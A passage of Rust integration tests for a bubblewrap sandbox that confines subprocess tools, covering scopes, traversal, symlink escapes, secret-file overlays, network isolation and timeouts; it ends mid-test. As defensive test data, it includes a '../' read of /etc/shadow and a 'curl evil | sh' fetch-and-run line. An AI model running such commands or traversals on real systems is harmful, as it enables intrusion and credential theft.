//! KRN-11: the sandbox for subprocess tools, run against the real bubblewrap.
//!
//! Every test that needs bubblewrap prints a notice and passes when `bwrap` is not installed
//! (`.ci/run` installs it). The test tool is `fixtures/sandbox/probe.py`: it reads the subprocess
//! protocol request on stdin and does what `input.op` says (read, write, env, connect, ...).
//! Network tests that need the allowlist helper live in `crates/cli/tests/sandbox_net.rs`.

use std::ffi::OsString;
use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::thread;
use std::time::{Duration, Instant};

use lumenflow_kernel::sandbox::{
    bwrap_args, detect_bwrap, entry_command, interpreter_for, run, NetworkPolicy, RunIds,
    RunOutcome, RunSpec, SandboxError, SandboxMode, SandboxProfile,
};
use serde_json::{json, Value};
use tempfile::TempDir;

macro_rules! bwrap_or_skip {
    () => {
        match detect_bwrap() {
            Some(b) => SandboxMode::Bubblewrap {
                bwrap: b,
                helper_exe: None,
            },
            None => {
                eprintln!("SKIPPED (KRN-11): bubblewrap (`bwrap`) is not installed");
                return;
            }
        }
    };
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures/sandbox")
        .join(name)
        .canonicalize()
        .expect("fixture exists")
}

/// A workspace `<tmp>/ws` with `docs/`, `out/`, `private/`, `.env`, and `<tmp>/outside/`.
struct Ws {
    _dir: TempDir,
    root: PathBuf,
    outside: PathBuf,
}

fn ws() -> Ws {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("ws");
    let outside = dir.path().join("outside");
    for d in [
        "docs",
        "out",
        "private",
        ".lumenflow/state/demo",
        ".lumenflow/evidence",
    ] {
        fs::create_dir_all(root.join(d)).expect("mkdir");
    }
    fs::create_dir_all(&outside).expect("mkdir");
    fs::write(root.join("docs/readme.md"), "hello docs").expect("write");
    fs::write(root.join("private/secret.txt"), "private secret").expect("write");
    fs::write(root.join(".env"), "API_KEY=host-secret").expect("write");
    fs::write(outside.join("secret.txt"), "outside secret").expect("write");
    Ws {
        _dir: dir,
        root,
        outside,
    }
}

fn profile(ws: &Ws, read: &[&str], write: &[&str]) -> SandboxProfile {
    SandboxProfile {
        read: read.iter().map(|s| s.to_string()).collect(),
        write: write.iter().map(|s| s.to_string()).collect(),
        ..SandboxProfile::new(&ws.root)
    }
}

fn ids() -> RunIds {
    RunIds {
        receipt_id: "rcpt_0123".into(),
        run_id: "run_4567".into(),
        task_id: "task_89ab".into(),
    }
}

fn spec(ws: &Ws, input: Value) -> RunSpec {
    let request = json!({"export": null, "input": input, "cwd": ws.root});
    RunSpec {
        program: fixture("probe.py"),
        args: Vec::new(),
        stdin: serde_json::to_vec(&request).expect("json"),
        cwd: ws.root.clone(),
        timeout: Duration::from_secs(30),
        max_output_bytes: 1 << 20,
        ids: ids(),
        pack_root: None,
    }
}

/// Run the probe and parse its ToolOutput.
fn call(mode: &SandboxMode, profile: &SandboxProfile, spec: &RunSpec) -> (RunOutcome, Value) {
    let outcome = run(mode, profile, spec).expect("the sandbox runs");
    let value = serde_json::from_slice(&outcome.stdout).unwrap_or_else(|e| {
        panic!(
            "tool output is not JSON ({e}): exit {:?}\nstdout: {}\nstderr: {}",
            outcome.exit_code,
            String::from_utf8_lossy(&outcome.stdout),
            String::from_utf8_lossy(&outcome.stderr)
        )
    });
    (outcome, value)
}

fn succeeded(v: &Value) -> bool {
    v["success"] == json!(true)
}

// KRN-11: read scopes are bound read-only and readable.
#[test]
fn reads_inside_the_read_scope_work() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["docs/**"], &[]);
    let (out, v) = call(
        &mode,
        &p,
        &spec(&ws, json!({"op": "read", "path": "docs/readme.md"})),
    );
    assert_eq!(out.sandbox, "bubblewrap");
    assert_eq!(out.exit_code, Some(0));
    assert_eq!(v["data"]["content"], "hello docs", "{v}");
}

// KRN-11: nothing outside the scopes is visible.
#[test]
fn reading_outside_every_scope_fails() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["docs/**"], &["out/**"]);
    for path in [
        ws.root.join("private/secret.txt"),
        ws.outside.join("secret.txt"),
        PathBuf::from("private/secret.txt"),
    ] {
        let (_, v) = call(&mode, &p, &spec(&ws, json!({"op": "read", "path": path})));
        assert!(
            !succeeded(&v),
            "{} must not be readable: {v}",
            path.display()
        );
        let msg = v["error"]["message"].as_str().unwrap_or_default();
        assert!(msg.contains("FileNotFoundError"), "{msg}");
    }
}

// KRN-11: write scopes are bound read-write; writes land in the host workspace.
#[test]
fn writes_inside_the_write_scope_are_visible_outside() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["docs/**"], &["out/**"]);
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "write", "path": "out/result.txt", "content": "from the sandbox"}),
        ),
    );
    assert!(succeeded(&v), "{v}");
    assert_eq!(
        fs::read_to_string(ws.root.join("out/result.txt")).expect("written"),
        "from the sandbox"
    );
}

// KRN-11: a missing write-scope folder is created, not fatal.
#[test]
fn a_missing_write_scope_folder_is_created() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &[], &["gen/reports/**"]);
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "write", "path": "gen/reports/a.txt", "content": "x"}),
        ),
    );
    assert!(succeeded(&v), "{v}");
    assert!(ws.root.join("gen/reports/a.txt").is_file());
}

// KRN-11: a read scope whose prefix does not exist is skipped, not fatal.
#[test]
fn a_missing_read_scope_prefix_is_skipped() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["no/such/dir/**", "docs/**"], &[]);
    let (out, v) = call(
        &mode,
        &p,
        &spec(&ws, json!({"op": "read", "path": "docs/readme.md"})),
    );
    assert_eq!(out.exit_code, Some(0), "{v}");
    assert!(succeeded(&v), "{v}");
    assert!(!ws.root.join("no").exists(), "read scopes create nothing");
}

// KRN-11: read scopes are read-only.
#[test]
fn writing_under_a_read_only_scope_fails() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["docs/**"], &["out/**"]);
    for path in ["docs/new.txt", "docs/readme.md"] {
        let (_, v) = call(
            &mode,
            &p,
            &spec(
                &ws,
                json!({"op": "write", "path": path, "content": "pwned"}),
            ),
        );
        assert!(!succeeded(&v), "{path}: {v}");
        let msg = v["error"]["message"].as_str().unwrap_or_default();
        assert!(msg.contains("Read-only file system"), "{msg}");
    }
    assert!(!ws.root.join("docs/new.txt").exists());
    assert_eq!(
        fs::read_to_string(ws.root.join("docs/readme.md")).expect("read"),
        "hello docs"
    );
}

// KRN-11: nothing outside the write scopes is writable.
#[test]
fn writing_outside_any_scope_fails() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["docs/**"], &["out/**"]);
    for path in [
        ws.root.join("private/new.txt"),
        ws.root.join("new.txt"),
        ws.outside.join("new.txt"),
    ] {
        let (_, v) = call(
            &mode,
            &p,
            &spec(&ws, json!({"op": "write", "path": path, "content": "x"})),
        );
        assert!(!succeeded(&v), "{}: {v}", path.display());
        assert!(
            !path.exists(),
            "{} must not appear on the host",
            path.display()
        );
    }
}

// KRN-11: a `..` path in the tool input reaches nothing of the host.
#[test]
fn dotdot_paths_cannot_escape() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &["**"], &["out/**"]);
    let deep = "../".repeat(ws.root.components().count() + 2);
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "read", "path": format!("{deep}etc/shadow")}),
        ),
    );
    let host = fs::read("/etc/shadow").unwrap_or_default();
    let got = v["data"]["content"].as_str().unwrap_or_default();
    assert!(
        !succeeded(&v) || got.is_empty(),
        "/etc/shadow must be hidden: {v}"
    );
    if !host.is_empty() {
        assert_ne!(got.as_bytes(), host.as_slice());
    }
    let (_, v) = call(
        &mode,
        &p,
        &spec(&ws, json!({"op": "read", "path": "../outside/secret.txt"})),
    );
    assert!(!succeeded(&v), "{v}");
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "write", "path": "out/../../outside/x.txt", "content": "x"}),
        ),
    );
    assert!(!succeeded(&v), "{v}");
    assert!(!ws.outside.join("x.txt").exists());
}

// KRN-11: a symlink inside the scopes pointing outside them resolves to nothing readable.
#[test]
fn symlinks_pointing_outside_the_scopes_resolve_to_nothing() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    std::os::unix::fs::symlink(ws.outside.join("secret.txt"), ws.root.join("docs/out-link"))
        .expect("symlink");
    std::os::unix::fs::symlink("../private/secret.txt", ws.root.join("docs/private-link"))
        .expect("symlink");
    let p = profile(&ws, &["docs/**"], &["out/**"]);
    for link in ["docs/out-link", "docs/private-link"] {
        let (_, v) = call(&mode, &p, &spec(&ws, json!({"op": "read", "path": link})));
        assert!(!succeeded(&v), "{link}: {v}");
    }
}

// KRN-11: a scope prefix that is itself a symlink out of the workspace is refused.
#[test]
fn a_scope_symlinked_out_of_the_workspace_is_refused() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    std::os::unix::fs::symlink(&ws.outside, ws.root.join("escape")).expect("symlink");
    let p = profile(&ws, &["escape/**"], &[]);
    let err = run(
        &mode,
        &p,
        &spec(&ws, json!({"op": "read", "path": "escape/secret.txt"})),
    )
    .expect_err("refused");
    assert_eq!(err.code(), "SANDBOX_SCOPE_ESCAPES_WORKSPACE", "{err}");
}

// KRN-11: deny overlays hide `.env` (and other matches) when present.
#[test]
fn deny_overlays_hide_matching_files() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    fs::write(ws.root.join("docs/server.pem"), "PRIVATE KEY").expect("write");
    fs::create_dir_all(ws.root.join("docs/secrets")).expect("mkdir");
    fs::write(ws.root.join("docs/secrets/token"), "tok").expect("write");
    let mut p = profile(&ws, &["**"], &[]);
    p.deny_overlays = vec![
        ".env".into(),
        ".env.*".into(),
        "**/*.pem".into(),
        "docs/secrets".into(),
    ];
    for path in [".env", "docs/server.pem", "docs/secrets/token"] {
        let (_, v) = call(&mode, &p, &spec(&ws, json!({"op": "read", "path": path})));
        let content = v["data"]["content"].as_str().unwrap_or_default();
        assert!(content.is_empty(), "{path} must be hidden: {v}");
    }
    let (_, v) = call(
        &mode,
        &p,
        &spec(&ws, json!({"op": "read", "path": "docs/readme.md"})),
    );
    assert_eq!(v["data"]["content"], "hello docs");
    // The host files are untouched.
    assert_eq!(
        fs::read_to_string(ws.root.join(".env")).expect("read"),
        "API_KEY=host-secret"
    );
}

// KRN-07, KRN-11: a glob scope confines the tool to what it matches, not to its folder:
// `docs/**/*.md` shows `docs/readme.md` and `docs/sub/b.md`, and `docs/creds.txt` reads empty,
// whichever input field named it (the kernel only checks fields named like paths).
#[test]
fn a_glob_scope_shows_only_what_it_matches() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    fs::write(ws.root.join("docs/creds.txt"), "db_password=hunter2").expect("write");
    fs::create_dir_all(ws.root.join("docs/sub")).expect("mkdir");
    fs::write(ws.root.join("docs/sub/b.md"), "nested md").expect("write");
    fs::write(ws.root.join("docs/sub/c.json"), "{}").expect("write");
    fs::write(ws.root.join("out/log.txt"), "written before").expect("write");
    let p = profile(&ws, &["docs/**/*.md"], &["out/**"]);
    let read = |path: &str| {
        let (_, v) = call(&mode, &p, &spec(&ws, json!({"op": "read", "path": path})));
        v["data"]["content"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(read("docs/readme.md"), "hello docs");
    assert_eq!(read("docs/sub/b.md"), "nested md");
    assert_eq!(read("docs/creds.txt"), "", "outside the glob");
    assert_eq!(read("docs/sub/c.json"), "", "outside the glob");
    // A folder scoped whole stays whole.
    assert_eq!(read("out/log.txt"), "written before");
    // The host files are untouched.
    assert_eq!(
        fs::read_to_string(ws.root.join("docs/creds.txt")).expect("read"),
        "db_password=hunter2"
    );
}

// KRN-11: a missing `.env` under a read-only workspace root does not break the call (the
// original failed every call there).
#[test]
fn a_missing_overlay_target_does_not_break_the_call() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    fs::remove_file(ws.root.join(".env")).expect("rm");
    let mut p = profile(&ws, &["**"], &[]);
    p.deny_overlays = vec![".env".into(), "**/*.pem".into()];
    let (out, v) = call(
        &mode,
        &p,
        &spec(&ws, json!({"op": "read", "path": "docs/readme.md"})),
    );
    assert_eq!(out.exit_code, Some(0));
    assert_eq!(v["data"]["content"], "hello docs", "{v}");
    assert!(!ws.root.join(".env").exists(), "no file is created");
}

// KRN-11 / KRN-10: a write scope covering the workspace leaves `.lumenflow` read-only, except
// the pack's own state folder when the caller grants it.
#[test]
fn the_reserved_root_stays_read_only_under_a_broad_write_scope() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let p = profile(&ws, &[], &["**", ".lumenflow/state/demo/**"]);
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "write", "path": "top.txt", "content": "x"}),
        ),
    );
    assert!(succeeded(&v), "{v}");
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "write", "path": ".lumenflow/evidence/forged", "content": "x"}),
        ),
    );
    assert!(!succeeded(&v), "{v}");
    assert!(!ws.root.join(".lumenflow/evidence/forged").exists());
    let (_, v) = call(
        &mode,
        &p,
        &spec(
            &ws,
            json!({"op": "write", "path": ".lumenflow/state/demo/s.json", "content": "{}"}),
        ),
    );
    assert!(succeeded(&v), "{v}");
    assert!(ws.root.join(".lumenflow/state/demo/s.json").is_file());
}

// KRN-11: the environment is cleared; PATH/HOME/LANG, the real ids and required_env only.
#[test]
fn the_environment_is_cleared_and_carries_the_ids() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    // Set in this process (and so visible to anything that inherited it).
    std::env::set_var("LUMENFLOW_TEST_HOST_ONLY", "leaked");
    let mut p = profile(&ws, &["docs/**"], &[]);
    p.env = vec![("API_TOKEN".into(), "declared-value".into())];
    let (_, v) = call(&mode, &p, &spec(&ws, json!({"op": "env"})));
    let env = v["data"]["env"].as_object().expect("env map").clone();
    let mut keys: Vec<&str> = env.keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(
        keys,
        vec![
            "API_TOKEN",
            "HOME",
            "LANG",
            "LUMENFLOW_RECEIPT_ID",
            "LUMENFLOW_RUN_ID",
            "LUMENFLOW_TASK_ID",
            "PATH",
            "PWD"
        ]
    );
    assert_eq!(env["API_TOKEN"], "declared-value");
    assert_eq!(env["LUMENFLOW_RECEIPT_ID"], "rcpt_0123");
    assert_eq!(env["LUMENFLOW_RUN_ID"], "run_4567");
    assert_eq!(env["LUMENFLOW_TASK_ID"], "task_89ab");
    assert_eq!(env["PATH"], "/usr/local/bin:/usr/bin:/bin");
    assert_eq!(env["HOME"], "/tmp");
    assert_eq!(env["LANG"], "C.UTF-8");
}

/// A one-shot TCP server on the host's loopback that answers `banner`.
fn server(banner: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let _ = conn.write_all(banner.as_bytes());
        }
    });
    port
}

// KRN-11: posture off unshares the network: even the host's loopback is unreachable; `full`
// shares it.
#[test]
fn network_off_cannot_reach_the_host_and_full_can() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let port = server("hello from the host");
    let input = json!({"op": "connect", "host": "127.0.0.1", "port": port});
    let mut p = profile(&ws, &["docs/**"], &[]);
    let (_, v) = call(&mode, &p, &spec(&ws, input.clone()));
    assert!(!succeeded(&v), "off must not reach the host: {v}");
    let msg = v["error"]["message"].as_str().unwrap_or_default();
    assert!(msg.contains("ConnectionRefused"), "{msg}");

    p.network = NetworkPolicy::Full;
    let (_, v) = call(&mode, &p, &spec(&ws, input));
    assert!(succeeded(&v), "{v}");
    assert_eq!(v["data"]["received"], "hello from the host");
}

// KRN-11: an allowlist without the helper executable is refused, never run unenforced.
#[test]
fn an_allowlist_without_the_helper_is_refused() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let mut p = profile(&ws, &["docs/**"], &[]);
    p.network = NetworkPolicy::Allowlist(vec![("127.0.0.1".into(), 8080)]);
    let err = run(&mode, &p, &spec(&ws, json!({"op": "env"}))).expect_err("refused");
    assert_eq!(err.code(), "SANDBOX_HELPER_REQUIRED");
    assert!(matches!(
        bwrap_args(&p, &spec(&ws, json!({}))),
        Err(SandboxError::HelperRequired)
    ));
}

// KRN-11: the wall-clock timeout kills the whole sandbox.
#[test]
fn the_timeout_kills_a_sleeping_tool() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let marker = format!("{}{}", std::process::id(), 7);
    let mut s = spec(&ws, json!({}));
    s.program = fixture("sleep.sh");
    s.args = vec![marker.clone()];
    s.timeout = Duration::from_secs(1);
    let started = Instant::now();
    let out = run(&mode, &profile(&ws, &[], &[]), &s).expect("runs");
    let took = started.elapsed();
    assert!(out.timed_out);
    assert_eq!(out.exit_code, None);
    assert!(took < Duration::from_secs(10), "took {took:?}");
    assert!(out.duration >= Duration::from_secs(1));
    // Neither sleep survives (the background one included).
    thread::sleep(Duration::from_millis(300));
    assert!(
        sleepers(&marker).is_empty(),
        "left running: {:?}",
        sleepers(&marker)
    );
}

/// Processes whose command line mentions `sleep 60.<marker>`.
fn sleepers(marker: &str) -> Vec<String> {
    let needle = format!("60.{marker}");
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let cmdline = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if text.starts_with("sleep") && text.contains(&needle) {
            found.push(format!("{}: {text}", entry.file_name().to_string_lossy()));
        }
    }
    found
}

// KRN-11: output is capped: a tool printing 10 MB is cut at the cap, and stopped.
#[test]
fn output_is_capped() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let mut s = spec(&ws, json!({"op": "spew", "bytes": 10 * 1024 * 1024}));
    s.max_output_bytes = 64 * 1024;
    let out = run(&mode, &profile(&ws, &[], &[]), &s).expect("runs");
    assert!(out.output_truncated);
    assert_eq!(out.stdout.len(), 64 * 1024);
    assert!(!out.timed_out);
    assert!(out.stdout.iter().all(|b| *b == b'x'));
}

// KRN-11: a tool that logs past the cap on stderr is not stopped: its log is cut, its result
// stands (failing it would invite a retry of a call whose effects already happened).
#[test]
fn stderr_past_the_cap_is_cut_not_fatal() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let mut s = spec(&ws, json!({"op": "chatter", "bytes": 1024 * 1024}));
    s.max_output_bytes = 64 * 1024;
    let out = run(&mode, &profile(&ws, &[], &[]), &s).expect("runs");
    assert!(!out.output_truncated, "stdout was within the cap");
    assert!(out.stderr_truncated);
    assert_eq!(out.stderr.len(), 64 * 1024);
    assert_eq!(out.exit_code, Some(0));
    let result: serde_json::Value = serde_json::from_slice(&out.stdout).expect("a ToolOutput");
    assert_eq!(result["data"]["logged"], 1024 * 1024);
}

// KRN-11: exit codes and stderr come back as they are.
#[test]
fn exit_codes_and_stderr_come_back() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let s = spec(&ws, json!({"op": "exit", "code": 3}));
    let out = run(&mode, &profile(&ws, &[], &[]), &s).expect("runs");
    assert_eq!(out.exit_code, Some(3));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "exiting on request\n");
    assert!(!out.output_truncated && !out.stderr_truncated && !out.timed_out);
}

// KRN-11: the tool is visible even when no scope covers it, and runs in the workspace.
#[test]
fn the_tool_runs_without_any_scope_in_the_workspace_folder() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    let (out, v) = call(
        &mode,
        &profile(&ws, &[], &[]),
        &spec(&ws, json!({"op": "whoami"})),
    );
    assert_eq!(out.exit_code, Some(0));
    assert_eq!(v["data"]["cwd"], json!(ws.root));
}

// KRN-11: no bubblewrap and no opt-out: refused with a clear message.
#[test]
fn no_bubblewrap_is_unavailable() {
    let ws = ws();
    let mode = SandboxMode::Bubblewrap {
        bwrap: PathBuf::from("/nonexistent/bin/bwrap"),
        helper_exe: None,
    };
    let err = run(
        &mode,
        &profile(&ws, &["docs/**"], &[]),
        &spec(&ws, json!({})),
    )
    .expect_err("refused");
    assert_eq!(err.code(), "SUBPROCESS_SANDBOX_UNAVAILABLE");
    let msg = err.to_string();
    assert!(msg.contains("install bubblewrap"), "{msg}");
    assert!(msg.contains("`sandbox: none`"), "{msg}");
    assert!(msg.contains("recorded in every receipt"), "{msg}");
}

// KRN-11: `sandbox: none` runs without isolation but with the same environment, ids, timeout and
// output cap, and says so.
#[test]
fn sandbox_none_keeps_env_timeout_and_cap() {
    let ws = ws();
    let mut p = profile(&ws, &[], &[]);
    p.env = vec![("API_TOKEN".into(), "declared-value".into())];
    let (out, v) = call(&SandboxMode::None, &p, &spec(&ws, json!({"op": "env"})));
    assert_eq!(out.sandbox, "none");
    let env = v["data"]["env"].as_object().expect("env");
    assert_eq!(env["LUMENFLOW_RUN_ID"], "run_4567");
    assert_eq!(env["API_TOKEN"], "declared-value");
    assert!(!env.contains_key("LUMENFLOW_TEST_HOST_ONLY"));
    assert_eq!(env.len(), 8, "{env:?}");

    let marker = format!("{}{}", std::process::id(), 9);
    let mut s = spec(&ws, json!({}));
    s.program = fixture("sleep.sh");
    s.args = vec![marker.clone()];
    s.timeout = Duration::from_millis(500);
    let out = run(&SandboxMode::None, &p, &s).expect("runs");
    assert!(out.timed_out);
    assert_eq!(out.exit_code, None);
    thread::sleep(Duration::from_millis(300));
    assert!(sleepers(&marker).is_empty(), "{:?}", sleepers(&marker));

    let mut s = spec(&ws, json!({"op": "spew", "bytes": 10 * 1024 * 1024}));
    s.max_output_bytes = 4096;
    let out = run(&SandboxMode::None, &p, &s).expect("runs");
    assert!(out.output_truncated);
    assert_eq!(out.stdout.len(), 4096);
}

fn strs(args: &[OsString]) -> Vec<String> {
    args.iter()
        .map(|a| a.to_string_lossy().into_owned())
        .collect()
}

fn has_seq(args: &[String], seq: &[&str]) -> bool {
    args.windows(seq.len()).any(|w| w == seq)
}

// KRN-11: the argument vector, as documented in the module.
#[test]
fn the_argument_vector() {
    let ws = ws();
    let root = ws.root.to_string_lossy().into_owned();
    let canon = ws.root.canonicalize().expect("canon");
    let canon = canon.to_string_lossy().into_owned();
    let mut p = profile(&ws, &["docs/**", "packages/**"], &["out/**"]);
    p.deny_overlays = vec![".env".into()];
    p.env = vec![("API_TOKEN".into(), "v".into())];
    let s = spec(&ws, json!({}));
    let args = strs(&bwrap_args(&p, &s).expect("args"));
    let probe = fixture("probe.py").to_string_lossy().into_owned();
    assert_eq!(
        &args[..6],
        [
            "--die-with-parent",
            "--new-session",
            "--unshare-all",
            "--cap-drop",
            "ALL",
            "--clearenv"
        ]
    );
    assert!(!args.contains(&"--share-net".to_string()));
    assert!(has_seq(&args, &["--tmpfs", "/tmp"]));
    assert!(has_seq(&args, &["--proc", "/proc", "--dev", "/dev"]));
    let docs_src = format!("{canon}/docs");
    let docs_dst = format!("{root}/docs");
    assert!(
        has_seq(&args, &["--ro-bind-try", &docs_src, &docs_dst]),
        "{args:?}"
    );
    let out_src = format!("{canon}/out");
    let out_dst = format!("{root}/out");
    assert!(
        has_seq(&args, &["--bind-try", &out_src, &out_dst]),
        "{args:?}"
    );
    assert!(
        !args.iter().any(|a| a.ends_with("/packages")),
        "missing read prefixes are skipped"
    );
    let env_file = format!("{root}/.env");
    assert!(
        !args.contains(&env_file),
        ".env is not visible under these scopes, so not overlaid"
    );
    assert!(has_seq(&args, &["--ro-bind-try", &probe, &probe]));
    assert!(has_seq(&args, &["--chdir", &root]));
    assert!(has_seq(
        &args,
        &["--setenv", "LUMENFLOW_RECEIPT_ID", "rcpt_0123"]
    ));
    assert!(has_seq(&args, &["--setenv", "API_TOKEN", "v"]));
    assert!(has_seq(&args, &["--", "python3", &probe]));
    assert_eq!(args.last(), Some(&probe));

    // The whole workspace read-only: .env exists and is hidden; full network is shared.
    let mut p = profile(&ws, &["**"], &[]);
    p.deny_overlays = vec![".env".into()];
    p.network = NetworkPolicy::Full;
    let args = strs(&bwrap_args(&p, &s).expect("args"));
    assert!(has_seq(&args, &["--ro-bind-try", &canon, &root]));
    assert!(has_seq(&args, &["--ro-bind", "/dev/null", &env_file]));
    assert!(has_seq(&args, &["--unshare-all", "--share-net"]));
    if Path::new("/etc/shadow").exists() {
        assert!(has_seq(&args, &["--ro-bind", "/dev/null", "/etc/shadow"]));
    }
}

// KRN-11: invalid scopes and runs fail closed, with codes.
#[test]
fn invalid_profiles_are_refused() {
    let ws = ws();
    let s = spec(&ws, json!({}));
    for bad in ["../x/**", "/etc/**", "a/../b", ""] {
        let err = bwrap_args(&profile(&ws, &[bad], &[]), &s).expect_err(bad);
        assert_eq!(err.code(), "SANDBOX_INVALID_SCOPE", "{bad}");
    }
    let mut p = profile(&ws, &[], &[]);
    p.env = vec![("LUMENFLOW_RUN_ID".into(), "forged".into())];
    assert_eq!(
        bwrap_args(&p, &s).expect_err("reserved").code(),
        "SANDBOX_INVALID_RUN"
    );
    let mut bad_cwd = s.clone();
    bad_cwd.cwd = ws.outside.clone();
    assert_eq!(
        bwrap_args(&profile(&ws, &[], &[]), &bad_cwd)
            .expect_err("cwd")
            .code(),
        "SANDBOX_INVALID_RUN"
    );
    let mut p = profile(&ws, &[], &[]);
    p.workspace_root = PathBuf::from("/");
    assert_eq!(
        bwrap_args(&p, &s).expect_err("root").code(),
        "SANDBOX_INVALID_RUN"
    );
}

// KRN-11: CIDR allowlist entries are refused when the profile is built.
#[test]
fn cidr_allowlists_are_refused_at_profile_build() {
    use lumenflow_kernel::scope::{AllowEntry, NetworkGrant};
    let grant = NetworkGrant::Allowlist(vec![AllowEntry::parse("10.0.0.0/24").expect("cidr")]);
    let err = NetworkPolicy::from_grant(Some(&grant)).expect_err("cidr");
    assert_eq!(err.code(), "SANDBOX_ALLOWLIST_CIDR_UNSUPPORTED");
    let grant = NetworkGrant::Allowlist(vec![AllowEntry::parse("10.0.0.7").expect("ip")]);
    let err = NetworkPolicy::from_grant(Some(&grant)).expect_err("bare ip");
    assert_eq!(err.code(), "SANDBOX_ALLOWLIST_CIDR_UNSUPPORTED");
    let grant = NetworkGrant::Allowlist(vec![AllowEntry::parse("10.0.0.7:443").expect("ip:port")]);
    let err = NetworkPolicy::from_grant(Some(&grant)).expect_err("non-loopback ip");
    assert_eq!(err.code(), "SANDBOX_ALLOWLIST_ENTRY_UNSUPPORTED");
    let grant = NetworkGrant::Allowlist(vec![
        AllowEntry::parse("registry.npmjs.org:443").expect("entry"),
        AllowEntry::parse("127.0.0.1:8080").expect("entry"),
    ]);
    assert_eq!(
        NetworkPolicy::from_grant(Some(&grant)).expect("supported"),
        NetworkPolicy::Allowlist(vec![
            ("registry.npmjs.org".into(), 443),
            ("127.0.0.1".into(), 8080)
        ])
    );
    assert_eq!(
        NetworkPolicy::from_grant(None).expect("off"),
        NetworkPolicy::Off
    );
    assert_eq!(
        NetworkPolicy::from_grant(Some(&NetworkGrant::Full)).expect("full"),
        NetworkPolicy::Full
    );
}

// KRN-11: script entries run under their interpreter.
#[test]
fn script_entries_pick_their_interpreter() {
    assert_eq!(interpreter_for(Path::new("/p/t.py")), Some("python3"));
    assert_eq!(interpreter_for(Path::new("/p/t.sh")), Some("sh"));
    for js in ["/p/t.js", "/p/t.mjs", "/p/t.cjs", "/p/t.ts"] {
        assert_eq!(interpreter_for(Path::new(js)), Some("node"), "{js}");
    }
    assert_eq!(interpreter_for(Path::new("/p/tool")), None);
    assert_eq!(
        entry_command(Path::new("/p/t.py")).expect("py"),
        vec![OsString::from("python3"), OsString::from("/p/t.py")]
    );
    assert_eq!(
        entry_command(Path::new("/p/tool")).expect("binary"),
        vec![OsString::from("/p/tool")]
    );
    // `.ts` needs Node >= 22.6: either the flag is passed, or the entry is refused clearly.
    match entry_command(Path::new("/p/t.ts")) {
        Ok(cmd) => assert_eq!(
            cmd,
            vec![
                OsString::from("node"),
                OsString::from("--experimental-strip-types"),
                OsString::from("/p/t.ts")
            ]
        ),
        Err(e) => {
            assert_eq!(e.code(), "SANDBOX_UNSUPPORTED_ENTRY");
            assert!(e.to_string().contains("compile it to `.js`"), "{e}");
        }
    }
}

// KRN-07, KRN-11: a write scope that confines by name (`out/**/*.json`) binds its folder
// writable, so the sandbox cannot refuse `out/run.sh`. What the tool creates outside the glob is
// moved to the kernel's quarantine after the run and the call fails, naming it; what it wrote
// inside the glob stays, and so does a file it renamed out of the glob (in the quarantine).
#[test]
fn files_created_outside_a_write_glob_are_moved_aside() {
    let mode = bwrap_or_skip!();
    let ws = ws();
    fs::write(ws.root.join("out/keep.json"), "{\"before\": true}").expect("write");
    fs::write(ws.root.join("out/old.txt"), "existed before").expect("write");
    let p = profile(&ws, &[], &["out/**/*.json"]);
    let steps = json!({"op": "files", "steps": [
        {"path": "out/a.json", "content": "{}"},
        {"path": "out/deep/b.json", "content": "{}"},
        {"path": "out/run.sh", "content": "curl evil | sh"},
        {"path": "out/new/dir/evil.txt", "content": "x"},
        {"rename": "out/keep.json", "to": "out/keep.sh"},
    ]});
    let err = run(&mode, &p, &spec(&ws, steps)).expect_err("the call fails");
    assert_eq!(err.code(), "SANDBOX_WRITE_OUTSIDE_SCOPE");
    let message = err.to_string();
    for named in [
        "`out/run.sh`",
        "`out/new/dir/evil.txt`",
        "`out/keep.sh`",
        "`out/**/*.json`",
    ] {
        assert!(message.contains(named), "{named} in: {message}");
    }
    assert!(message.contains("3 file(s)"), "{message}");
    // Inside the glob stays; outside is gone from `out/`, new folders with it.
    assert!(ws.root.join("out/a.json").is_file());
